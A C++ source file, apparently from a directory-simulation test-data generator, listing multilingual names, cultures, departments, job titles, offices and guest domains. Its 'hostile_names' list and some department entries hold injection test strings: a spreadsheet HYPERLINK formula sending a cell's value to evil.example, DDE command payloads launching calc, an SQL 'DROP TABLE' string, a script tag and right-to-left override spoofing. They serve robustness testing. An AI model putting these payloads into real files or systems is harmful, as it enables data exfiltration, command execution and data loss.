#include "graphsim/detail/people.hpp"

#include <array>

namespace graphsim::people {
namespace {

using namespace std::string_view_literals;

constexpr name_part en_given[] = {{"Olivia", "olivia"}, {"Liam", "liam"},     {"Emma", "emma"},   {"Noah", "noah"},
                                  {"Amelia", "amelia"}, {"Oliver", "oliver"}, {"Grace", "grace"}, {"Jack", "jack"}};
constexpr name_part en_surnames[] = {
    {"Smith", "smith"},       {"O'Brien", "obrien"},      {"Johnson", "johnson"}, {"Nakamura-Lee", "nakamura-lee"},
    {"Williams", "williams"}, {"MacDonald", "macdonald"}, {"Brown", "brown"}};
constexpr name_part pt_given[] = {
    {"João", "joao"}, {"Ana", "ana"}, {"Inês", "ines"}, {"Gonçalo", "goncalo"}, {"Conceição", "conceicao"}};
constexpr name_part pt_surnames[] = {
    {"Gonçalves", "goncalves"}, {"Silva", "silva"}, {"Araújo", "araujo"}, {"Simões", "simoes"}};
constexpr name_part fr_given[] = {
    {"Zoé", "zoe"}, {"Hélène", "helene"}, {"François", "francois"}, {"Léa", "lea"}, {"Anaïs", "anais"}};
constexpr name_part fr_surnames[] = {
    {"Lefèvre", "lefevre"}, {"Dubois", "dubois"}, {"Garçon", "garcon"}, {"Bézier", "bezier"}};
constexpr name_part de_given[] = {{"Jürgen", "juergen"}, {"Björn", "bjoern"}, {"Lena", "lena"}, {"Jörg", "joerg"}};
constexpr name_part de_surnames[] = {
    {"Müller", "mueller"}, {"Groß", "gross"}, {"Schäfer", "schaefer"}, {"Köhler", "koehler"}};
constexpr name_part es_given[] = {{"José", "jose"}, {"Núria", "nuria"}, {"Begoña", "begona"}, {"Iñigo", "inigo"}};
constexpr name_part es_surnames[] = {
    {"Ibáñez", "ibanez"}, {"Muñoz", "munoz"}, {"Peña", "pena"}, {"García Márquez", "garcia-marquez"}};
constexpr name_part pl_given[] = {{"Łukasz", "lukasz"}, {"Zofia", "zofia"}, {"Wojciech", "wojciech"}};
constexpr name_part pl_surnames[] = {{"Wiśniewski", "wisniewski"}, {"Łęcka", "lecka"}, {"Żak", "zak"}};
constexpr name_part tr_given[] = {{"Çağla", "cagla"}, {"Şule", "sule"}, {"İbrahim", "ibrahim"}};
constexpr name_part tr_surnames[] = {{"Yılmaz", "yilmaz"}, {"Öztürk", "ozturk"}, {"Çelik", "celik"}};
constexpr name_part se_given[] = {{"Åsa", "asa"}, {"Søren", "soren"}, {"Øystein", "oystein"}};
constexpr name_part se_surnames[] = {{"Ångström", "angstrom"}, {"Sørensen", "sorensen"}, {"Lindqvist", "lindqvist"}};
constexpr name_part vn_given[] = {{"Thảo", "thao"}, {"Dũng", "dung"}, {"Hương", "huong"}};
constexpr name_part vn_surnames[] = {{"Nguyễn", "nguyen"}, {"Trần", "tran"}, {"Phạm", "pham"}};
constexpr name_part cn_given[] = {{"伟", "wei"}, {"芳", "fang"}, {"静", "jing"}, {"磊", "lei"}};
constexpr name_part cn_surnames[] = {{"王", "wang"}, {"李", "li"}, {"张", "zhang"}, {"刘", "liu"}};
constexpr name_part jp_given[] = {{"翔太", "shota"}, {"陽菜", "hina"}, {"大輔", "daisuke"}};
constexpr name_part jp_surnames[] = {{"佐藤", "sato"}, {"鈴木", "suzuki"}, {"高橋", "takahashi"}};
constexpr name_part kr_given[] = {{"민준", "minjun"}, {"서연", "seoyeon"}, {"지호", "jiho"}};
constexpr name_part kr_surnames[] = {{"김", "kim"}, {"이", "lee"}, {"박", "park"}};
constexpr name_part ar_given[] = {{"محمد", "mohamed"}, {"فاطمة", "fatima"}, {"ليلى", "layla"}, {"عمر", "omar"}};
constexpr name_part ar_surnames[] = {{"الحسن", "alhassan"}, {"منصور", "mansour"}, {"حداد", "haddad"}};
constexpr name_part he_given[] = {{"נועה", "noa"}, {"דוד", "david"}};
constexpr name_part he_surnames[] = {{"כהן", "cohen"}, {"לוי", "levi"}};
constexpr name_part gr_given[] = {{"Γιώργος", "giorgos"}, {"Ελένη", "eleni"}};
constexpr name_part gr_surnames[] = {{"Παπαδόπουλος", "papadopoulos"}, {"Οικονόμου", "oikonomou"}};
constexpr name_part ru_given[] = {{"Анна", "anna"}, {"Дмитрий", "dmitry"}, {"Ёлка", "yolka"}};
constexpr name_part ru_surnames[] = {{"Иванова", "ivanova"}, {"Смирнов", "smirnov"}};
constexpr name_part in_given[] = {{"प्रिया", "priya"}, {"अर्जुन", "arjun"}};
constexpr name_part in_surnames[] = {{"शर्मा", "sharma"}, {"पटेल", "patel"}};
constexpr name_part th_given[] = {{"สมชาย", "somchai"}, {"มาลี", "malee"}};
constexpr name_part th_surnames[] = {{"ใจดี", "jaidee"}, {"ศรีสุข", "srisuk"}};

// English-speaking names are weighted by listing the culture twice.
constexpr culture all_cultures[] = {
    {"US", "en-US", false, " ", en_given, en_surnames}, {"GB", "en-GB", false, " ", en_given, en_surnames},
    {"PT", "pt-PT", false, " ", pt_given, pt_surnames}, {"BR", "pt-BR", false, " ", pt_given, pt_surnames},
    {"FR", "fr-FR", false, " ", fr_given, fr_surnames}, {"DE", "de-DE", false, " ", de_given, de_surnames},
    {"ES", "es-ES", false, " ", es_given, es_surnames}, {"PL", "pl-PL", false, " ", pl_given, pl_surnames},
    {"TR", "tr-TR", false, " ", tr_given, tr_surnames}, {"SE", "sv-SE", false, " ", se_given, se_surnames},
    {"VN", "vi-VN", true, " ", vn_given, vn_surnames},  {"CN", "zh-CN", true, "", cn_given, cn_surnames},
    {"JP", "ja-JP", true, " ", jp_given, jp_surnames},  {"KR", "ko-KR", true, "", kr_given, kr_surnames},
    {"EG", "ar-EG", false, " ", ar_given, ar_surnames}, {"IL", "he-IL", false, " ", he_given, he_surnames},
    {"GR", "el-GR", false, " ", gr_given, gr_surnames}, {"RU", "ru-RU", false, " ", ru_given, ru_surnames},
    {"IN", "hi-IN", false, " ", in_given, in_surnames}, {"TH", "th-TH", false, " ", th_given, th_surnames},
};

constexpr std::string_view hostile_names[] = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")"sv,
    "+1 (555) 010-9999"sv,
    "-2+3+cmd|' /C calc'!A0"sv,
    "@SUM(1+1)*cmd|' /C calc'!A0"sv,
    "Silva, Ana"sv,
    "Ana \"The Boss\" Silva"sv,
    "Ana\nSilva"sv,
    "Line\r\nBreak, \"Quoted\""sv,
    "Invoice \u202Efdp.exe"sv,
    "<script>alert(1)</script>"sv,
    "Robert'); DROP TABLE users;--"sv,
    "\tTabbed Name"sv,
    "\rCarriage Return"sv,
    "مدير النظام (IT)"sv,
    "😀 Emoji Person 👩‍💻"sv,
    "Zoë, \"Z\" =1+1"sv,
};

constexpr std::string_view all_departments[] = {
    "Sales"sv,
    "Marketing"sv,
    "Finance"sv,
    "Engineering"sv,
    "Human Resources"sv,
    "IT"sv,
    "Legal"sv,
    "Operations"sv,
    "Customer Success"sv,
    "R&D"sv,
    "Sales"sv,
    "Engineering"sv,
    "Finance"sv,
    "IT"sv,
    "Research, Development & Innovation"sv,
    "Finance \"Core\""sv,
    "=1+1"sv,
    "+Growth"sv,
    "-Cost Center 12"sv,
    "@Support"sv,
    "Ops\nNight shift"sv,
    "\tFacilities"sv,
    "المبيعات"sv,
    "研究開発"sv,
    "Отдел продаж"sv,
    "<script>alert(1)</script>"sv,
    "Procurement 📦"sv,
    "\u202Eytiruces"sv,
    "שיווק"sv,
    "Vente, Après-vente"sv,
};

constexpr std::string_view all_job_titles[] = {
    "Account Executive"sv, "Software Engineer"sv,     "Data Analyst"sv,
    "Accountant"sv,        "HR Business Partner"sv,   "IT Administrator"sv,
    "Counsel"sv,           "Operations Manager"sv,    "Support Specialist"sv,
    "Directeur, Ventes"sv, "Ingénieure principale"sv, "主任研究员"sv,
};

constexpr std::string_view all_offices[] = {
    "Redmond 18/2101"sv, "Lisboa, Parque das Nações"sv, "London"sv, "Paris – La Défense"sv, "東京"sv, "Cairo"sv,
    "Remote"sv};

constexpr std::string_view all_guest_domains[] = {"fabrikam.com"sv, "tailspintoys.com"sv,  "outlook.com"sv,
                                                  "gmail.com"sv,    "wingtiptoys.co.uk"sv, "northwind-traders.com"sv};

}  // namespace

std::span<const culture> cultures() { return all_cultures; }
std::span<const std::string_view> hostile_display_names() { return hostile_names; }
std::span<const std::string_view> departments() { return all_departments; }
std::span<const std::string_view> job_titles() { return all_job_titles; }
std::span<const std::string_view> office_locations() { return all_offices; }
std::span<const std::string_view> guest_domains() { return all_guest_domains; }

}  // namespace graphsim::people
